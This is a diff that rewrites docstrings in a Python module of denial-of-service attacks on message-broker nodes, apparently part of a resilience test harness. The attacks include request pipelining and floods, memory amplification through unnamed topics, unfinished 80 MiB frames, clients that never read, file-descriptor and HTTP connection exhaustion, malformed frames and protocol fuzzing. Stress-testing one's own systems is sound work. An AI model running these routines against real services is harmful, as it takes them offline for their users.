@@ -1,4 +1,4 @@
-"""Attacks on time, memory and file descriptors: they send what any client may send, only too much of it."""
+"""Attacks on processor time, memory and file descriptors, mostly with too many valid requests or connections."""
 
 from __future__ import annotations
 
@@ -29,17 +29,17 @@ UNNAMED_TOPICS = 1500
 CREATE_TOPICS_VERSION = 7
 DEAF_BUFFER = 4096
 CONNECTIONS = 4200
-"""More than the hard limit of open files that the nodes have."""
+"""More connections than the hard limit of open files of a node."""
 HTTP_CONNECTIONS = 600
 
 
 def huge_metadata() -> Message:
-    """Metadata of the topic with very many partitions."""
+    """Return a request for the metadata of the topic with 10,000 partitions."""
     return MetadataRequest([MetadataRequestTopic(name=HUGE_TOPIC)], False)
 
 
 def pipeline_metadata(target: Target) -> None:
-    """Requests for a huge response, all at once on one connection, which is read."""
+    """Send 200 requests for huge responses at once on one connection, and read the responses."""
     for _ in target.deadline():
         with suppress(OSError):
             peer = Peer(target.leader_address)
@@ -50,7 +50,7 @@ def pipeline_metadata(target: Target) -> None:
 
 
 def metadata_for_many(target: Target) -> None:
-    """A hundred clients that request a huge response once each, at the same moment."""
+    """Send one request for a huge response from each of a hundred clients at the same time."""
     peers = [Peer(target.leader_address) for _ in range(CLIENTS)]
     for peer in peers:
         peer.send(peer.frame(huge_metadata(), METADATA_VERSION))
@@ -60,7 +60,7 @@ def metadata_for_many(target: Target) -> None:
 
 
 def metadata_for_closed_connections(target: Target) -> None:
-    """Clients that request huge responses and close the connection at once."""
+    """Send requests for huge responses and close the connection without reading."""
     for _ in target.deadline():
         with suppress(OSError):
             peer = Peer(target.leader_address)
@@ -69,7 +69,7 @@ def metadata_for_closed_connections(target: Target) -> None:
 
 
 def create_unnamed_topics(target: Target) -> None:
-    """Many clients with a request each, whose elements need forty times their bytes."""
+    """Send one request from each of many clients, whose elements take forty times the memory of their encoding."""
     topics = CreateTopicsRequest([CreatableTopic("", 1, 1)] * UNNAMED_TOPICS, 60_000, False)
     peers = []
     for _ in range(UNNAMED_CLIENTS):
@@ -81,7 +81,7 @@ def create_unnamed_topics(target: Target) -> None:
 
 
 def flood_with_requests(target: Target) -> None:
-    """Small requests on a few connections, as fast as the leader reads them."""
+    """Send small requests on a few connections, as fast as the leader responds."""
     peers = [Peer(target.leader_address) for _ in range(4)]
     frame = peers[0].frame(DescribeClusterRequest(), 0)
     for _ in target.deadline():
@@ -95,7 +95,7 @@ def flood_with_requests(target: Target) -> None:
 
 
 def leave_frames_unfinished(target: Target) -> None:
-    """Frames of 80 MB each, of which the last byte is never sent."""
+    """Start frames of 80 MiB on many connections, and never finish them."""
     _leave_unfinished(target, list(target.nodes.values()))
 
 
@@ -118,7 +118,7 @@ def _leave_unfinished(target: Target, addresses: list[Address]) -> None:
 
 
 def read_nothing(target: Target) -> None:
-    """Clients that request huge responses and never read one."""
+    """Request huge responses from many clients that never read."""
     peers = [Peer(target.leader_address, DEAF_BUFFER) for _ in range(DEAF_CLIENTS)]
     for peer in peers:
         with suppress(OSError):
@@ -128,7 +128,7 @@ def read_nothing(target: Target) -> None:
 
 
 def exhaust_descriptors(target: Target) -> None:
-    """More idle connections to every node than it may have open files."""
+    """Open more idle connections to every node than it may have open files."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     _open_everywhere(list(target.nodes.values()), CONNECTIONS, target)
@@ -136,12 +136,12 @@ def exhaust_descriptors(target: Target) -> None:
 
 
 def exhaust_http(target: Target) -> None:
-    """Connections to the HTTP endpoints that send nothing."""
+    """Open connections to the HTTP endpoints and send nothing."""
     _open_everywhere(target.http, HTTP_CONNECTIONS, target)
 
 
 def _open_everywhere(addresses: list[Address], count: int, target: Target) -> None:
-    """Keep `count` connections to every address, and reopen those that a node closes."""
+    """Open `count` connections to every address, and close them at the end of the attack."""
     links: list[socket.socket] = []
     for address in addresses:
         for _ in range(count):
@@ -157,7 +157,7 @@ def _open_everywhere(addresses: list[Address], count: int, target: Target) -> No
 
 
 def send_bad_frames(target: Target) -> None:
-    """Malformed frames, each on a connection of its own."""
+    """Send malformed frames, each on a new connection."""
     for _ in target.deadline():
         for address in target.nodes.values():
             with suppress(OSError):
@@ -167,7 +167,7 @@ def send_bad_frames(target: Target) -> None:
 
 
 def send_fuzzed(target: Target) -> None:
-    """Mutated requests of every API and version."""
+    """Send mutated requests of every API and version."""
     frames = [
         kind.API_KEY.to_bytes(2) + version.to_bytes(2) + bytes(4) + b"\xff\xff\x00" + body
         for kind, version, bodies in messages_of_all_versions(2)
@@ -186,7 +186,7 @@ def send_fuzzed(target: Target) -> None:
 
 
 def greet(target: Target) -> None:
-    """Nothing but one request: the row of a quiet field."""
+    """Send a small request every 0.1 seconds: the baseline without an attack."""
     peer = Peer(target.leader_address)
     for left in target.deadline():
         peer.request(ApiVersionsRequest("attacker", "1"), 3)
